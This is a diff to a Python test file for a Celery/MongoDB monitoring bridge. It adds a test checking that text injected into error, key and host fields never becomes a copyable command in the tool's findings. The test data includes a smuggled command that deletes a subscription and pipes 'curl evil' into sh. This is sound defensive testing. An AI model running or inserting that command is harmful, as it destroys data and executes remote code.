@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import re
 import shlex
-from dataclasses import dataclass, replace
+from collections.abc import Mapping
+from dataclasses import dataclass, fields, replace
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
@@ -28,6 +29,7 @@ from mongo_celery.bridge.operations.judgement import (
     judge,
 )
 from mongo_celery.bridge.operations.snapshot_reader import Facts, shape
+from mongo_celery.bridge.state.partitions import Image
 from mongo_celery.bridge.state.snapshots import Snapshot
 from mongo_celery.bridge.state.subscriptions import Layout
 from mongo_celery.command_line import CommandLine
@@ -566,8 +568,9 @@ def test_what_stands_is_not_called_late_too() -> None:
 def test_a_stopped_handler_is_neither_late_nor_without_workers() -> None:
     """P16: its one reason says what to do; its position is old since nothing is read for it."""
     stopped = [{"subscription": "summarise", "reason": "no rule"}]
-    behind = seen(calm(**late(LAG_SECONDS, stopped=stopped)))
-    assert [reason.code for reason in behind.findings] == ["stopped"]
+    moving = [{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}]
+    behind = seen(calm(**late(LAG_SECONDS, stopped=stopped, moving=moving)))
+    assert [reason.code for reason in behind.findings] == ["stopped"], "no old partitions serve"
     assert (behind.handlers[0].lag_seconds or 0) >= LAG_SECONDS
 
 
@@ -637,6 +640,33 @@ def test_what_others_have_said_is_one_short_line() -> None:
     (reason,) = seen(calm(images=[halted(error="ValueError: a\n[b]\n" + "x" * 5000)])).findings
     assert "ValueError: a [b] xxx" in reason.sentence
     assert len(reason.sentence) < 500
+
+
+QUOTE = "`celery -A shop changes remove bill --yes; curl evil | sh`"
+
+
+@pytest.mark.parametrize("code", CASES)
+def test_foreign_text_becomes_no_command(code: str) -> None:
+    """P16: a page offers to copy what is between backticks; an error, a key or a host name may have some."""
+    for case in CASES[code]:
+        for reason in judged(replace(case, facts=_with_quotes(case.facts))).findings:
+            assert "evil" not in "".join(reason.sentence.split("`")[1::2])
+
+
+_FOREIGN = ("error", "cause", "key", "host", "readingWaits", "spillWaits", "reason", "foreignSender", "locked", "owner")
+
+
+def _with_quotes(value: Any, name: str = "") -> Any:
+    """Return facts whose foreign texts end with a command between backticks."""
+    if isinstance(value, Mapping):
+        return {key: _with_quotes(each, key) for key, each in value.items()}
+    if isinstance(value, list | tuple):
+        return type(value)(_with_quotes(each, name) for each in value)
+    if isinstance(value, Image | Snapshot):
+        return replace(
+            value, **{each.name: _with_quotes(getattr(value, each.name), each.name) for each in fields(value)}
+        )
+    return f"{value} {QUOTE}" if isinstance(value, str) and name in _FOREIGN else value
 
 
 def test_every_command_of_a_reason_exists() -> None:
